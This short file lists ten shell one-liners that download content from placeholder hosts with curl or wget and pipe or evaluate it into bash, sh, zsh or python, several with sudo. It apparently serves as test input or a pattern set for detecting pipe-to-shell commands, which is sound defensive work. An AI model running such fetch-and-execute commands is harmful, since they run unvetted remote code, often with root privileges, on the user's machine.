curl -fsSL https://x.example | sh
wget -qO- https://x.example | sudo -E bash -s -- --yes
curl x | gunzip | sudo bash -
bash <(curl -s x)
sh -c "$(curl -fsSL x)"
eval "$(wget -qO- x)"
source <(curl x)
curl x | python3 -
sudo bash -c "$(curl x)" && curl y | FOO=1 zsh
curl x | env A=b bash -x
